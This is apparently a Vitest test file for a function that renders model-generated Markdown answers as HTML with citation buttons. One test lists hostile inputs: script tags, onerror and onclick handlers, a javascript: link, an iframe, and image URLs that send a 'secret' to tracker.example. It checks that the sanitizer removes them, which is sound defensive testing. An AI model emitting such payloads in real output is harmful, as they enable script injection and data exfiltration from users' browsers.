// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { renderAnswer } from './answer-html';

function dom(html: string): HTMLDivElement {
  const div = document.createElement('div');
  div.innerHTML = html;
  return div;
}

describe('renderAnswer', () => {
  it('renders Markdown and turns valid [n] markers into citation buttons', () => {
    const root = dom(renderAnswer('The queen lays **2000** eggs a day [1][2]. See also [7].', 2));
    expect(root.querySelector('strong')?.textContent).toBe('2000');
    const cites = [...root.querySelectorAll('button.cite')].map((b) => (b as HTMLButtonElement).dataset.cite);
    expect(cites).toEqual(['1', '2']);
    expect(root.textContent).toContain('[7]'); // beyond the passages given: left as text
  });

  it('never lets markup from the model run or load anything', () => {
    const evil = [
      '<script>window.pwned = 1</script>',
      '<img src="https://tracker.example/leak?q=secret" onerror="window.pwned = 1">',
      '<a href="javascript:alert(1)">click</a>',
      '<iframe src="https://evil.example"></iframe>',
      '![leak](https://tracker.example/p.png?d=secret)',
      '<div onclick="alert(1)">x</div>',
      '[ok](https://example.org/page)',
    ].join('\n\n');
    const html = renderAnswer(evil, 3);
    const root = dom(html);
    expect(root.querySelector('script, img, iframe')).toBeNull();
    expect(html).not.toMatch(/onerror|onclick|javascript:/i);
    const links = [...root.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual([null, 'https://example.org/page']);
    expect(links[1]?.getAttribute('rel')).toContain('noopener');
  });

  it('leaves [n] inside code untouched', () => {
    const root = dom(renderAnswer('Use `arr[1]` here [1].', 2));
    expect(root.querySelector('code')?.textContent).toBe('arr[1]');
    expect(root.querySelectorAll('button.cite')).toHaveLength(1);
  });
});
